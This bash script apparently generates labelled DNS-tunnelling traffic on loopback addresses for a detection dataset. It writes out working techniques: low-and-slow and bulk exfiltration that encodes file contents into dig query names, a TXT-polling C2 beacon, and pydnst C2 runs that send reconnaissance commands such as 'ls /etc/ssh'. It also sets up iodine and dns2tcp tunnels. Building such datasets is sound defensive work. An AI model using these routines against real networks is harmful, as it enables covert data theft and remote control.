#!/usr/bin/env bash
# The tunnels of one day (sourced by shift_day.sh, inside its namespace; uses its helpers). Each split has
# tunnel domains of its own (shift_plan.py TUNNEL_DOMAINS); which tunnels run depends on the day of the split:
#   every day:   low-and-slow (a few dozen exfiltration lookups among the host's ordinary DNS, over ~12.5 h),
#                c2-beacon (a TXT poll <8-hex session>.<seq>.<domain> every ~6 minutes, answered by nsd)
#   days 2, 3:   spread (one file, its chunks sent from 64 source addresses), pydnst (a real DNS C2 tool from
#                PyPI: keep-alives, the operator's commands, their output sent back in queries), dns2tcp
#   days 1, 3:   iodine (ping + 3 KB up + 3 KB down through the tunnel); day 3: dig-exfil (a 3 KB file in a loop)
# Every tunnel goes through a recursive resolver, one per day in turn, with a non-default setting per day.
DS=$((DI % 3))
TUN=$(awk -F'\t' -v s="$SPLIT" '$3 == s' "$PLAN/tunnels.tsv")
tdom() { awk -F'\t' -v f="$1" '$1 == f { print $2 }' <<<"$TUN"; }
TRES=(bind9 unbound kresd pdns-recursor unbound-0x20)
RT=${TRES[$(((DI + SI) % 5))]}       # the resolver today's tunnels use
RT2=${TRES[$(((DI + SI + 2) % 5))]}  # a second one, for the volume tunnels (the next one if it fails them)
# pydnst's client asks the resolver its config names. Through kresd and through unbound with 0x20 it never
# registers (its server matches the domain case-sensitively) and retries without pause, tens of thousands of
# queries; its operator would pick a resolver that works, so it uses unbound or bind9.
PRES=$([ $((DI % 2)) = 0 ] && echo unbound || echo bind9)
tw() { wanted tunnels || wanted "$1"; }  # run this tunnel scenario (ONLY_SCENARIOS)
tunnel_rules() {  # tunnel_rules FAMILY CATEGORY DOMAIN SRV_ADDR SRV_IMPL CLIENT_IMPL CLIENT_INI RES
  local fam=$1 cat=$2 dom=$3 sa=$4 si=$5 ci=$6 ini=$7 res=$8 re r a
  re="${dom//./\\.}"
  M "$F" "$ini" "$(raddr "$res" "$ci")" dns-tunnel "$ci" "${RIMPL[$res]}" "$cat" ".+\\.$re" "$ci" stub "$fam" "$SCEN"
  M "$F" "$ini" "$(raddr "$res" "$ci")" dns "$ci" "${RIMPL[$res]}" ordinary '' "$ci" stub '' "$SCEN"
  for r in unbound bind9 unbound-0x20 kresd pdns-recursor; do
    M "$F" "$(rout $r)" "$sa" dns-tunnel "${RIMPL[$r]}" "$si" "$cat" '' "${RIMPL[$r]}" upstream "$fam" "$SCEN"
    M "$F" "$(rout $r)" "$sa" dns "${RIMPL[$r]}" "$si" ordinary "(ns\\.)?$re" "${RIMPL[$r]}" upstream '' "$SCEN"
    for a in $AUTHS; do
      M "$F" "$(rout $r)" "${a%:*}" dns "${RIMPL[$r]}" "${a#*:}" ordinary '' "${RIMPL[$r]}" upstream '' "$SCEN"
      M "$F" "$(rout $r)" "${a%:*}" dns-tunnel "${RIMPL[$r]}" "${a#*:}" "$cat" ".+\\.$re" "${RIMPL[$r]}" upstream "$fam" "$SCEN"
    done
  done
}
stray_rules() {  # stray_rules FAMILY CATEGORY: a resolver's queries that carry the client's data outside its domain
  # (iodine through bind9 sends names like '<45 base32>.go' to the root): tunnel traffic, though no tunnel
  # server sees it
  local r a
  for r in unbound bind9 unbound-0x20 kresd pdns-recursor; do
    for a in $AUTHS; do
      M "$F" "$(rout $r)" "${a%:*}" dns-tunnel "${RIMPL[$r]}" "${a#*:}" "$2" '(.+\.)?[a-z0-9]{20}[a-z0-9]*(\..+)?' "${RIMPL[$r]}" \
        upstream "$1" "$SCEN"
    done
  done
}
b32() { base32 -w0 | tr -d = | tr A-Z a-z; }

# ---------------------------------------------------------------- the slow ones, at once, each in its own capture
low_and_slow() {
  local dom sid data i=0 seq=0 chunk ord n
  dom=$(tdom low-and-slow); sid=$(printf '%s' "$DAY$dom" | md5sum | head -c 4)
  data=$(tail -c +$((DI * 480 + 1)) /etc/services | head -c 480 | b32)   # ~30 lookups of 26 characters
  awk -F'\t' '$1 == "dig" && $2 == "A" { print $3 }' "$P/background.tsv" | sort -u | shuf -n 45 --random-source=<(yes "$DAY") > "$WORK/ls-ord.list"
  mapfile -t ord < "$WORK/ls-ord.list"
  while [ -n "$data" ] || [ $i -lt ${#ord[@]} ]; do
    if [ -n "$data" ] && { [ $i -ge ${#ord[@]} ] || [ $((RANDOM % 5)) -lt 2 ]; }; then
      chunk=${data:0:26}; data=${data:26}
      dig -b 127.53.120.1 @"$(raddr $RT)" "$chunk.$seq.$sid.$dom" A +tries=1 +time=3 >/dev/null 2>&1; seq=$((seq + 1))
    else
      dig -b 127.53.120.1 @"$(raddr $RT)" "${ord[$i]}" A +tries=1 +time=3 >/dev/null 2>&1; i=$((i + 1))
    fi
    sleep "0.$((80 + RANDOM % 50))"
  done
}
spread() {
  local dom data idx=0 src
  dom=$(tdom spread)
  data=$(tail -c +$((DI * 1500 + 1)) /usr/share/common-licenses/GPL-3 | head -c 1500 | xxd -p | tr -d '\n')  # 75 lookups
  while [ -n "$data" ]; do
    src=127.53.121.$((1 + RANDOM % 64))
    dig -b $src @"$(raddr $RT)" "${data:0:40}.$idx.$dom" A +tries=1 +time=3 >/dev/null 2>&1
    data=${data:40}; idx=$((idx + 1)); sleep "0.$((60 + RANDOM % 30))"
  done
}
beacon() {
  local dom sid s
  dom=$(tdom c2-beacon); sid=$(printf '%s' "$DAY$dom" | sha1sum | head -c 8)
  for s in $(seq 1 60); do
    dig -b 127.53.122.1 @"$(raddr $RT)" "$sid.$s.$dom" TXT +tries=1 +time=3 >/dev/null 2>&1
    sleep "0.$((85 + RANDOM % 14))"
  done
}
pydnst_run() {  # the pydnst server on an interface of its own (it listens on its first address), the client via the resolver
  local dom=$1 d="$WORK/pydnst" C S
  mkdir -p "$d/srv" "$d/cli"
  ip tuntap add dev pyd0 mode tun 2>/dev/null; ip addr add 127.53.9.5/32 dev pyd0 2>/dev/null; ip link set pyd0 up
  (cd "$d/srv" && "$TOOLS/bin/python" -m pydnst create_certificates >/dev/null && "$TOOLS/bin/python" -m pydnst config >/dev/null)
  sed -i -e "s/^DNST_SERVER_NAME = .*/DNST_SERVER_NAME = \"$dom\"/" -e 's/^LISTENING_INTERFACE = .*/LISTENING_INTERFACE = "pyd0"/' \
    -e "s|^MESSAGES_JSON = .*|MESSAGES_JSON = \"$d/srv/messages.json\"|" -e "s|^UDS_PATH_COMMANDER = .*|UDS_PATH_COMMANDER = \"$d/srv/c2.uds\"|" \
    -e "s/^DNS_SERVER_ADDRESS = .*/DNS_SERVER_ADDRESS = \"$(raddr $PRES pydnst)\"/" -e 's/^KEEP_ALIVE_PERIOD = .*/KEEP_ALIVE_PERIOD = 3/' "$d/srv/pydnst.toml"
  cp "$d/srv/pydnst.toml" "$d/srv/server_public.pem" "$d/cli/"
  echo "$((17 + DI))" > "$d/cli/dnst_client_id.txt"
  echo "ws-fin-$((200 + DI))" > "$d/cli/hostname"
  (cd "$d/srv" && exec "$TOOLS/bin/python" -m pydnst server run) > "$d/srv.log" 2>&1 & S=$!
  sleep 3
  (cd "$d/cli" && exec unshare -m bash -c "mount --bind '$d/cli/hostname' /etc/hostname && exec '$TOOLS/bin/python' -m pydnst client run") > "$d/cli.log" 2>&1 & C=$!
  sleep 20
  for cmd in "id" "uname -a" "cat /etc/hostname" "ls /etc/ssh" "ip -brief addr"; do
    (cd "$d/srv" && "$TOOLS/bin/python" -c "from pydnst.commander import Commander; Commander().send_command('$cmd', '$((17 + DI))')") >/dev/null 2>&1
    sleep 12
  done
  sleep 15
  stop $C $S; ip link del pyd0 2>/dev/null
}

# They run at once (ONLY_SCENARIOS: "slow-tunnels"), each captured with a host filter, and are merged into one
# file, <day>/1100-slow-tunnels.pcap:
# every other capture of the day lies before 11:00, so no two of the day's files overlap in time.
SLOWF="$DAY/1100-slow-tunnels.pcap"
jobs=()
tw slow-tunnels && (cap 11:00 low-and-slow "host 127.53.120.1 or host 127.53.9.3"; F=$SLOWF; low_and_slow; sleep 3
  tunnel_rules low-and-slow low-and-slow-base32 "$(tdom low-and-slow)" 127.53.9.3 nsd dig 127.53.120.1 $RT
  SLOW_TO="$WORK/slow-1.pcap" uncap 45000) & jobs+=($!)
tw slow-tunnels && (cap 11:10 c2-beacon "host 127.53.122.1 or host 127.53.9.6"; F=$SLOWF; beacon; sleep 3
  tunnel_rules c2-beacon c2-beacon-txt "$(tdom c2-beacon)" 127.53.9.6 nsd dig 127.53.122.1 $RT
  SLOW_TO="$WORK/slow-2.pcap" uncap 21600) & jobs+=($!)
if [ $DS -ge 1 ]; then
  tw slow-tunnels && (cap 13:00 spread "net 127.53.121.0/24 or host 127.53.9.4"; F=$SLOWF; spread; sleep 3
    tunnel_rules spread spread-hex "$(tdom spread)" 127.53.9.4 nsd dig '127.53.121.*' $RT
    SLOW_TO="$WORK/slow-3.pcap" uncap 10800) & jobs+=($!)
  tw slow-tunnels && (cap 11:20 pydnst "host 127.53.9.5 or host $(raddr $PRES pydnst)"; F=$SLOWF; pydnst_run "$(tdom pydnst)"; sleep 3
    tunnel_rules pydnst pydnst-txt "$(tdom pydnst)" 127.53.9.5 pydnst pydnst "$(raddr $PRES pydnst)" $PRES
    SLOW_TO="$WORK/slow-4.pcap" uncap 3600) & jobs+=($!)
fi
[ ${#jobs[@]} = 0 ] || wait "${jobs[@]}"
ls "$WORK"/slow-*.pcap >/dev/null 2>&1 && "$PY" "$HERE/retime.py" --merge "$OUT/$SLOWF" "$WORK"/slow-*.pcap
rm -f "$WORK"/slow-*.pcap
log "$DAY: slow tunnels done (resolver $RT, pydnst via $PRES)"

# ---------------------------------------------------------------- volume tunnels, one capture each
IODCFG=("TXT base32" "NULL auto" "CNAME base64" "MX base128" "SRV base32" "A base32")
if [ $DS != 1 ] && tw iodine; then
  set -- ${IODCFG[$(((SI * 2 + DS / 2) % 6))]}; ty=$1 enc=$2
  dom=$(tdom iodine); TUNNS="${NSN:?}-tun"
  ip netns del $TUNNS 2>/dev/null; ip netns add $TUNNS && ip -n $TUNNS link set lo up
  iodined -f -c -P corpuspass -l 127.53.9.1 -p 53 -d tun53s 10.53.0.1/27 "$dom" > "$WORK/iodined.log" 2>&1 & IODD=$!
  for _ in $(seq 100); do grep -q "Listening to dns" "$WORK/iodined.log" && break; sleep 0.1; done
  ip link set tun53s netns $TUNNS && ip -n $TUNNS addr add 10.53.0.1/27 dev tun53s && ip -n $TUNNS link set tun53s up
  ip netns exec $TUNNS socat -u TCP-LISTEN:5000,bind=10.53.0.1,fork,reuseaddr OPEN:/dev/null & SINK=$!
  ip netns exec $TUNNS socat -u EXEC:'head -c 3072 /dev/urandom' TCP-LISTEN:5001,bind=10.53.0.1,fork,reuseaddr & SRC=$!
  cap 10:20 iodine
  o=(-T "$ty"); [ "$enc" != auto ] && o+=(-O "$enc")
  # a user whose tunnel does not come up through one resolver tries the next (qname minimisation and 0x20
  # break some modes); every attempt stays in the capture and is labelled
  for r in $RT2 bind9 pdns-recursor kresd unbound; do
    timeout 90 iodine -f -r -P corpuspass "${o[@]}" -d tun53c "$(raddr $r iodine)" "$dom" > "$WORK/iodine.log" 2>&1 & IODC=$!
    for _ in $(seq 60); do grep -qE "Connection setup complete|couldn't connect" "$WORK/iodine.log" && break; sleep 0.5; done
    tunnel_rules iodine "iodine-$ty-$enc" "$dom" 127.53.9.1 iodined iodine "$(raddr $r iodine)" $r
    stray_rules iodine "iodine-$ty-$enc"
    if grep -q "Connection setup complete" "$WORK/iodine.log"; then
      ping -c 4 -i 0.3 -W 5 -s 200 10.53.0.1 >/dev/null 2>&1
      head -c 3072 /dev/urandom | timeout 30 nc -N 10.53.0.1 5000 >/dev/null 2>&1
      timeout 30 nc -d 10.53.0.1 5001 >/dev/null 2>&1
      log "$DAY iodine -T $ty -O $enc via $r: connected"
      stop $IODC; break
    fi
    log "$DAY iodine -T $ty -O $enc via $r: no connection"; stop $IODC
  done
  sleep 12
  uncap
  stop $IODD $SINK $SRC; ip netns del $TUNNS 2>/dev/null
fi
if [ $DS -ge 1 ] && tw dns2tcp; then
  dom=$(tdom dns2tcp); ty=$([ $(((SI + DS) % 2)) = 0 ] && echo TXT || echo KEY); comp=$([ $DS = 2 ] && echo -c)
  mkdir -p "$WORK/d2t/www"; head -c 16000 /dev/urandom > "$WORK/d2t/www/blob.bin"
  printf 'listen = 127.53.9.2\nport = 53\nuser = root\nchroot = %s\ndomain = %s\nresources = http:127.0.0.1:8091,echo:127.0.0.1:8092\n' \
    "$WORK/d2t" "$dom" > "$WORK/d2t/dns2tcpd.conf"
  python3 -m http.server 8091 --bind 127.0.0.1 --directory "$WORK/d2t/www" >/dev/null 2>&1 & WEB=$!
  socat TCP-LISTEN:8092,bind=127.0.0.1,fork,reuseaddr EXEC:cat & ECHO=$!
  dns2tcpd -F -f "$WORK/d2t/dns2tcpd.conf" > "$WORK/dns2tcpd.log" 2>&1 & D2S=$!
  wait_addr 127.53.9.2
  cap 10:35 dns2tcp
  for r in $RT2 bind9 pdns-recursor kresd unbound; do
    dns2tcpc -z "$dom" -r http -l 8093 -T $ty $comp "$(raddr $r dns2tcp)" > "$WORK/d2tc1.log" 2>&1 & C1=$!
    dns2tcpc -z "$dom" -r echo -l 8094 -T $ty $comp "$(raddr $r dns2tcp)" > "$WORK/d2tc2.log" 2>&1 & C2=$!
    wait_port tcp 8093; wait_port tcp 8094
    got=$(curl -s --max-time 40 -o /dev/null -w '%{size_download}' http://127.0.0.1:8093/blob.bin)
    [ "${got:-0}" -gt 0 ] && got="$got $(head -c 6000 /dev/urandom | timeout 40 nc -q 8 127.0.0.1 8094 | wc -c)"
    log "$DAY dns2tcp -T $ty $comp via $r: downloaded/echoed $got bytes"
    stop $C1 $C2
    tunnel_rules dns2tcp "dns2tcp-$ty${comp:+-compressed}" "$dom" 127.53.9.2 dns2tcpd dns2tcp "$(raddr $r dns2tcp)" $r
    [ "${got%% *}" -gt 0 ] 2>/dev/null && break
  done
  sleep 12
  uncap
  stop $D2S $WEB $ECHO
fi
if [ $DS = 2 ] && tw dig-exfil; then
  dom=$(tdom dig-exfil); sid=$(printf '%s' "$DAY$dom" | md5sum | head -c 6)
  data=$(head -c 3000 /usr/share/common-licenses/Apache-2.0 | b32); i=0
  cap 10:50 dig-exfil
  while [ -n "$data" ]; do
    chunk=${data:0:100}; data=${data:100}
    dig -b 127.53.110.1 @"$(raddr $RT2)" "$i.${chunk:0:50}.${chunk:50}.$sid.$dom" A +tries=1 +time=2 >/dev/null 2>&1; i=$((i + 1))
  done
  sleep 3
  tunnel_rules dig-exfil dig-exfil-base32 "$dom" 127.53.9.3 nsd dig 127.53.110.1 $RT2
  uncap
fi
log "$DAY: volume tunnels done"
